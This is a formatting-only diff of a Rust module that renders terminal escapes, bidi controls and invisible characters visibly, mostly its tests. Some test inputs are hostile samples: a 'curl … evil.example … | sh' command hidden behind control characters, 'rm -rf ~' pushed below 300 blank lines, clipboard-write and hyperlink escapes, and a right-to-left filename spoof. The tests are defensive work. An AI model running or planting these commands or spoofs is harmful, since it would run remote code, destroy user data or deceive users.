@@ -418,7 +418,11 @@ pub fn cut_note(hidden: usize) -> String {
         }
         grouped.push(d);
     }
-    let noun = if hidden == 1 { "character" } else { "characters" };
+    let noun = if hidden == 1 {
+        "character"
+    } else {
+        "characters"
+    };
     format!("… (+{grouped} more {noun})")
 }
 
@@ -652,7 +656,10 @@ mod tests {
     #[test]
     fn direction_controls_and_invisibles_are_shown_where_they_are() {
         assert_eq!(one_line("invoice\u{202e}fdp.exe"), "invoice⟨U+202E⟩fdp.exe");
-        assert_eq!(one_line("abc\u{202e}שלום\u{202c}"), "abc⟨U+202E⟩שלום⟨U+202C⟩");
+        assert_eq!(
+            one_line("abc\u{202e}שלום\u{202c}"),
+            "abc⟨U+202E⟩שלום⟨U+202C⟩"
+        );
         assert_eq!(one_line("\u{2067}مرحبا\u{2069}"), "⟨U+2067⟩مرحبا⟨U+2069⟩");
         assert_eq!(one_line("a\u{e0041}\u{e0042}b"), "a⟨U+E0041⟩⟨U+E0042⟩b");
         assert_eq!(
@@ -709,7 +716,10 @@ mod tests {
                 "\u{1b}]52;c;SGVsbG8gY2xpcGJvYXJk\u{7}after",
                 "␛]52;c;SGVsbG8gY2xpcGJvYXJk␇after",
             ),
-            ("\u{1b}]52;c;SGVsbG8=\u{1b}\\after", "␛]52;c;SGVsbG8=␛\\after"),
+            (
+                "\u{1b}]52;c;SGVsbG8=\u{1b}\\after",
+                "␛]52;c;SGVsbG8=␛\\after",
+            ),
             (
                 "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
                 "␛]8;;https://evil.example/␛\\click␛]8;;␛\\",
@@ -728,7 +738,10 @@ mod tests {
                 "git status\u{9d}0;curl -s http://evil.example/x|sh;\u{9c}",
                 "git status⟨U+009D⟩0;curl -s http://evil.example/x|sh;⟨U+009C⟩",
             ),
-            ("\u{90}q#0\u{9c}\u{98}s\u{9c}\u{9e}p\u{9c}\u{9f}a\u{9c}x", "⟨U+0090⟩q#0⟨U+009C⟩⟨U+0098⟩s⟨U+009C⟩⟨U+009E⟩p⟨U+009C⟩⟨U+009F⟩a⟨U+009C⟩x"),
+            (
+                "\u{90}q#0\u{9c}\u{98}s\u{9c}\u{9e}p\u{9c}\u{9f}a\u{9c}x",
+                "⟨U+0090⟩q#0⟨U+009C⟩⟨U+0098⟩s⟨U+009C⟩⟨U+009E⟩p⟨U+009C⟩⟨U+009F⟩a⟨U+009C⟩x",
+            ),
             ("\u{1b}cx\u{1b}(B\u{1b}#8", "␛cx␛(B␛#8"),
             // Unterminated: shown to the end.
             ("x\u{1b}]52;c;SGVsbG8=", "x␛]52;c;SGVsbG8="),
@@ -771,7 +784,10 @@ mod tests {
         );
         assert_eq!(multi_line("a\rb"), "a␍b");
         // Only blanks and line breaks are trimmed; what acts is shown.
-        assert_eq!(one_line("\u{200b} \u{1b}[1m x \u{feff}"), "⟨U+200B⟩ ␛[1m x ⟨U+FEFF⟩");
+        assert_eq!(
+            one_line("\u{200b} \u{1b}[1m x \u{feff}"),
+            "⟨U+200B⟩ ␛[1m x ⟨U+FEFF⟩"
+        );
         assert_eq!(one_line("\n\t x\r\n"), "x");
         assert_eq!(multi_line("x\u{7}\n"), "x␇");
         assert_eq!(multi_line(""), "");
@@ -787,7 +803,10 @@ mod tests {
         let tabs = format!("a{}b", "\t \u{a0}".repeat(30));
         assert_eq!(one_line(&tabs), "a␠×90b");
         let lines = format!("git status{}rm -rf ~", "\n".repeat(300));
-        assert_eq!(multi_line(&lines), "git status\n[299 blank lines]\nrm -rf ~");
+        assert_eq!(
+            multi_line(&lines),
+            "git status\n[299 blank lines]\nrm -rf ~"
+        );
         assert_eq!(one_line(&lines), "git status␤×300rm -rf ~");
         // Blank lines holding blanks or CRs are blank lines too.
         assert_eq!(
@@ -831,7 +850,12 @@ mod tests {
             "x\n".repeat(1000),
         ] {
             for out in [one_line(&input), multi_line(&input)] {
-                assert!(out.len() <= 6 * input.len(), "{} from {}", out.len(), input.len());
+                assert!(
+                    out.len() <= 6 * input.len(),
+                    "{} from {}",
+                    out.len(),
+                    input.len()
+                );
             }
         }
         assert_eq!(one_line("\u{85}").len(), 12);
@@ -853,12 +877,18 @@ mod tests {
         assert_eq!(bounded("नमस्ते", 3), "नम… (+4 more characters)");
         // Not inside a ZWJ sequence, a modifier, a variation selector or a flag.
         assert_eq!(bounded("a👩\u{200d}💻 Dev", 2), "a… (+7 more characters)");
-        assert_eq!(bounded("a👩\u{200d}💻 Dev", 4), "a👩\u{200d}💻… (+4 more characters)");
+        assert_eq!(
+            bounded("a👩\u{200d}💻 Dev", 4),
+            "a👩\u{200d}💻… (+4 more characters)"
+        );
         assert_eq!(bounded("a👍\u{1f3fd}b", 2), "a… (+3 more characters)");
         assert_eq!(bounded("a❤\u{fe0f}b", 2), "a… (+3 more characters)");
         assert_eq!(bounded("🇫🇷🇩🇪x", 3), "🇫🇷… (+3 more characters)");
         assert_eq!(bounded("🇫🇷🇩🇪x", 2), "🇫🇷… (+3 more characters)");
-        assert_eq!(bounded(&format!("a{FLAG_SCOTLAND}b"), 3), "a… (+8 more characters)");
+        assert_eq!(
+            bounded(&format!("a{FLAG_SCOTLAND}b"), 3),
+            "a… (+8 more characters)"
+        );
     }
 
     #[test]
@@ -897,9 +927,15 @@ mod tests {
             ),
             "error:␤␛[31mboom␛[0m now"
         );
-        assert_eq!(for_display("\u{1b}[1mabcdef", 6), "␛[1mab… (+4 more characters)");
+        assert_eq!(
+            for_display("\u{1b}[1mabcdef", 6),
+            "␛[1mab… (+4 more characters)"
+        );
         assert_eq!(for_display("\u{1b}[1mab  ", 6), "␛[1mab");
-        assert_eq!(for_display("\u{1b}ab\u{301}cd", 3), "␛a… (+4 more characters)");
+        assert_eq!(
+            for_display("\u{1b}ab\u{301}cd", 3),
+            "␛a… (+4 more characters)"
+        );
         assert_eq!(for_display("\u{1b}x", 0), "… (+2 more characters)");
         assert_eq!(for_display("\u{1b}[1m", 4), "␛[1m");
     }
@@ -986,19 +1022,67 @@ mod tests {
     #[test]
     fn generated_strings_come_out_visible_and_stable() {
         const POOL: &[&str] = &[
-            "a", "Z", "0", " ", "  ", "\n", "\r", "\t", "\r\n", "[", "]", "\\", "P", ";", "m",
-            "é", "e\u{301}", "ש", "م", "न्", "👩", "💻", "\u{1b}", "\u{1b}[", "\u{1b}]52;c;",
-            "\u{1b}\\", "\u{7}", "\u{18}", "\u{7f}", "\u{0}", "\u{200c}", "\u{200d}", "\u{fe0f}",
-            "\u{e0100}", "\u{1f3fd}", "🇫", "🇷", "\u{1f3f4}", "\u{e0067}", "\u{e0062}",
-            "\u{e0073}", "\u{e0063}", "\u{e0074}", "\u{e007f}", FLAG_SCOTLAND, "\u{a0}",
-            "\u{3000}", "␛", "⟨U+202E⟩", "␠×9",
+            "a",
+            "Z",
+            "0",
+            " ",
+            "  ",
+            "\n",
+            "\r",
+            "\t",
+            "\r\n",
+            "[",
+            "]",
+            "\\",
+            "P",
+            ";",
+            "m",
+            "é",
+            "e\u{301}",
+            "ש",
+            "م",
+            "न्",
+            "👩",
+            "💻",
+            "\u{1b}",
+            "\u{1b}[",
+            "\u{1b}]52;c;",
+            "\u{1b}\\",
+            "\u{7}",
+            "\u{18}",
+            "\u{7f}",
+            "\u{0}",
+            "\u{200c}",
+            "\u{200d}",
+            "\u{fe0f}",
+            "\u{e0100}",
+            "\u{1f3fd}",
+            "🇫",
+            "🇷",
+            "\u{1f3f4}",
+            "\u{e0067}",
+            "\u{e0062}",
+            "\u{e0073}",
+            "\u{e0063}",
+            "\u{e0074}",
+            "\u{e007f}",
+            FLAG_SCOTLAND,
+            "\u{a0}",
+            "\u{3000}",
+            "␛",
+            "⟨U+202E⟩",
+            "␠×9",
         ];
         let blanks = " ".repeat(20);
         let breaks = "\n".repeat(5);
         let pool: Vec<&str> = POOL
             .iter()
             .copied()
-            .chain(CODED.char_indices().map(|(i, c)| &CODED[i..i + c.len_utf8()]))
+            .chain(
+                CODED
+                    .char_indices()
+                    .map(|(i, c)| &CODED[i..i + c.len_utf8()]),
+            )
             .chain([blanks.as_str(), breaks.as_str()])
             .collect();
         // xorshift64*: deterministic, so a failure reproduces.
@@ -1024,7 +1108,11 @@ mod tests {
                         chars.nth(tags.wrapping_sub(1));
                         continue;
                     }
-                    let bad = if c == '\n' { !keep_newlines } else { !untouched(c, true) };
+                    let bad = if c == '\n' {
+                        !keep_newlines
+                    } else {
+                        !untouched(c, true)
+                    };
                     assert!(!bad, "{:04X} in {out:?} from {input:?}", c as u32);
                 }
                 assert!(out.len() <= 6 * input.len(), "{out:?} from {input:?}");
